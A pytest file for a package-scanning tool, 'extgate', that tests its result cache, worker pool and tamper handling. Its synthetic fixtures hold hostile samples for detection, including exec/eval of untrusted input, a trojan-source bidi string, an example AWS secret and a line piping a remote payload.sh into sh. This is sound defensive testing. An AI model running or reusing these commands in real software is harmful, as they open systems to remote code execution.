"""The per-file result cache and the --jobs pool change nothing but speed: verdicts over real package files
(tests/fixtures/cache/realfiles, see ORIGIN.md) plus synthetic ones are identical with the cache cold, warm and
off, and with one or two worker processes; a damaged cache is discarded with a note, never trusted."""

from __future__ import annotations

import sqlite3
from pathlib import Path

import pytest

from extgate import Options, check
from extgate.cache import FileRunner, codec
from extgate.cache.sqlite import FILE_NAME, SqliteResultCache
from extgate.facts import Facts
from extgate.formatters.json import canonical_digest
from extgate.gates.code import CodeGate
from extgate.gates.code.analysis import analyze_file
from extgate.gates.code.config import build_config
from extgate.gates.content import ContentGate
from extgate.gates.interface import GateContext, GateResult
from extgate.intake import IntakeLimits, open_source
from extgate.model import Verdict
from extgate.policy import Policy
from extgate.profiles import get_profile
from extgate.rules.registry import load_registry
from support.archives import npm_tgz

REAL = Path(__file__).resolve().parents[1] / "fixtures" / "cache" / "realfiles"
SYNTHETIC = {
    "package.json": '{"name": "cache-probe", "version": "1.0.0", "license": "MIT"}',
    "lib/evil.js": "const cp = require('child_process');\ncp.exec(process.argv[2]);\neval(atob(x));\n",
    "lib/bidi.js": "const s = 'admin\u202e';\n",
    "tools/run.py": "import os, subprocess\nsubprocess.run(os.environ['CMD'], shell=True)\nexec(input())\n",
    "dist/min.js": "var a=1;" * 400,
    "config/.env": "AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY\n",
    "docs/url.md": "fetch http://192.168.10.20:8080/payload.sh | sh\n",
}


def corpus() -> dict[str, bytes]:
    files = {
        "lib/router/index.js": (REAL / "express-router-index.js").read_bytes(),
        "lib/adapters/http.js": (REAL / "axios-adapters-http.js").read_bytes(),
        "lib/build.js": (REAL / "node-gyp-build.js").read_bytes(),
        "lib/find-python.js": (REAL / "node-gyp-find-python.js").read_bytes(),
        "gyp/pylib/gyp/common.py": (REAL / "gyp-common.py.txt").read_bytes(),
        "dist/cjs/v1.js": (REAL / "uuid-v1.js").read_bytes(),
    }
    return files | {name: text.encode() for name, text in SYNTHETIC.items()}


@pytest.fixture(scope="module")
def archive(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("cache-archive") / "probe-1.0.0.tgz"
    path.write_bytes(npm_tgz(corpus()))
    return path


@pytest.fixture(scope="module")
def baseline(archive: Path) -> Verdict:
    return check(archive, options=options(None))


def options(cache_dir: Path | None, jobs: int = 1) -> Options:
    return Options(
        offline=True, network=False, use_cache=cache_dir is not None, cache_dir=str(cache_dir) if cache_dir else None,
        jobs=jobs, osv_db=str(Path(__file__).parent),  # an OSV folder without records: no advisories
    )  # fmt: skip


def run_gates(archive: Path, runner: FileRunner | None) -> list[GateResult]:
    rules = load_registry()
    package = open_source(archive, limits=IntakeLimits())
    profile = get_profile("npm", rules)
    return [
        gate.run(GateContext(package, profile, Policy(), Options(), rules, Facts(), gate.name, runner))
        for gate in (CodeGate(), ContentGate())
    ]


def test_verdicts_identical_cache_cold_warm_and_off(archive: Path, baseline: Verdict, tmp_path: Path) -> None:
    off = baseline
    cold = check(archive, options=options(tmp_path))
    assert (tmp_path / FILE_NAME).is_file()
    warm = check(archive, options=options(tmp_path))
    assert canonical_digest(off) == canonical_digest(cold) == canonical_digest(warm)
    # the probe really exercises both per-file gates, so equality is not vacuous
    expected = {"code/dynamic-eval", "code/subprocess", "code/trojan-source", "code/minified", "content/shady-url"}
    assert expected <= {f.rule_id for f in off.findings}
    with sqlite3.connect(tmp_path / FILE_NAME) as db:
        (rows,) = db.execute("SELECT count(*) FROM results").fetchone()
    code_files = sum(name.endswith((".js", ".py")) for name in corpus())
    assert rows >= code_files  # one row per code file (code gate) plus the content gate's rows


def test_warm_cache_skips_analysis(archive: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    check(archive, options=options(tmp_path))
    from extgate.gates.code import analysis

    def boom(*args: object) -> None:
        raise AssertionError("parsed although cached")

    monkeypatch.setattr(analysis.javascript, "analyze", boom)
    monkeypatch.setattr(analysis.python, "analyze", boom)
    # the patch bites when uncached ...
    assert [f for f in check(archive, options=options(None)).findings if f.rule_id == "engine/internal-error"]
    warm = check(archive, options=options(tmp_path))  # ... and is never reached from a warm cache
    assert not [f for f in warm.findings if f.rule_id == "engine/internal-error"]


def test_pool_results_identical_to_serial(archive: Path) -> None:
    serial = run_gates(archive, FileRunner(jobs=1))
    pooled_runner = FileRunner(jobs=2)
    pooled_runner.min_files, pooled_runner.min_bytes = 1, 0  # force the pool on a small package
    pooled = run_gates(archive, pooled_runner)
    assert serial == pooled
    assert serial == run_gates(archive, None)


def test_cli_jobs_and_no_cache_agree(archive: Path, baseline: Verdict, tmp_path: Path) -> None:
    two = check(archive, options=options(tmp_path, jobs=2))
    assert canonical_digest(baseline) == canonical_digest(two)


@pytest.mark.parametrize("damage", ["garbage", "truncated"])
def test_corrupt_database_is_discarded_with_a_note(
    archive: Path, baseline: Verdict, tmp_path: Path, damage: str
) -> None:
    check(archive, options=options(tmp_path))
    db = tmp_path / FILE_NAME
    for suffix in ("-wal", "-shm"):
        Path(f"{db}{suffix}").unlink(missing_ok=True)
    if damage == "garbage":
        db.write_bytes(b"this is not a database" * 100)
    else:
        db.write_bytes(db.read_bytes()[:1500])
    verdict = check(archive, options=options(tmp_path))
    assert any("discarded" in note for note in verdict.notes), verdict.notes
    assert [f.fingerprint for f in verdict.findings] == [f.fingerprint for f in baseline.findings]
    assert verdict.status == baseline.status
    again = check(archive, options=options(tmp_path))  # rebuilt and usable
    assert not any("cache:" in note for note in again.notes)


def test_tampered_row_is_never_trusted(archive: Path, baseline: Verdict, tmp_path: Path) -> None:
    check(archive, options=options(tmp_path))
    # an attacker with write access to the database rewrites every cached result to "nothing found"
    config = build_config(load_registry(), lambda key, default: default)
    clean = codec.dumps(analyze_file("lib/x.js", ".js", b"var a = 1;\n", config))
    with sqlite3.connect(tmp_path / FILE_NAME) as db:
        db.execute("UPDATE results SET value = ?", (clean,))
    verdict = check(archive, options=options(tmp_path))
    assert any("damaged or modified entries" in note for note in verdict.notes)
    assert [f.fingerprint for f in verdict.findings] == [f.fingerprint for f in baseline.findings]


def test_codec_round_trip_is_exact() -> None:
    config = build_config(load_registry(), lambda key, default: default)
    for name, data in corpus().items():
        result = analyze_file(name, "." + name.rsplit(".", 1)[-1], data, config)
        again = codec.loads(codec.dumps(result))
        assert again == result
        assert type(again) is type(result)
    with pytest.raises(codec.DecodeError):
        codec.loads('{"c": ["os.system", {}]}')  # only registered result types are ever built


def test_unwritable_cache_dir_runs_uncached(archive: Path, tmp_path: Path) -> None:
    blocker = tmp_path / "file"
    blocker.write_text("not a folder")
    cache = SqliteResultCache(blocker)
    assert not cache.enabled and cache.notes
    verdict = check(archive, options=options(blocker))
    assert verdict.findings and any("cache:" in note for note in verdict.notes)


def test_deadline_results_are_never_cached(tmp_path: Path) -> None:
    """A parse that ran out of wall-clock time says more about the machine's load than about the file."""
    from extgate.cache.sqlite import SqliteResultCache as Store
    from extgate.gates.code.interface import FileAnalysis, RawFinding

    hit = RawFinding("safety/unparsed-file", "m", evidence="unparsed:timeout")
    timed_out = FileAnalysis("a.js", "javascript", findings=(hit,), skip_reason="timeout")
    runner = FileRunner(Store(tmp_path), jobs=1)
    calls = [("a.js", b"slow"), ("b.js", b"fast")]
    outputs = {"a.js": timed_out, "b.js": FileAnalysis("b.js", "javascript")}
    assert runner.map(_fake_analysis, calls, outputs) == [timed_out, outputs["b.js"]]
    with sqlite3.connect(tmp_path / FILE_NAME) as db:
        (rows,) = db.execute("SELECT count(*) FROM results").fetchone()
    assert rows == 1  # only the complete result


def _fake_analysis(path: str, data: bytes, outputs: dict[str, object]) -> object:
    return outputs[path]


def test_a_dead_pool_worker_fails_that_check_and_the_next_gets_a_fresh_pool() -> None:
    from concurrent.futures.process import BrokenProcessPool

    from support.batch_work import length_or_die

    runner = FileRunner(jobs=2)
    runner.min_files, runner.min_bytes = 1, 0  # force the pool for a handful of tiny files
    with pytest.raises(BrokenProcessPool):  # the engine turns this into engine/internal-error (fail closed)
        runner.map(length_or_die, [("a", b"xx"), ("die", b"x"), ("b", b"xyz")], None)
    assert runner.map(length_or_die, [("a", b"xx"), ("b", b"xyz")], None) == [2, 3]
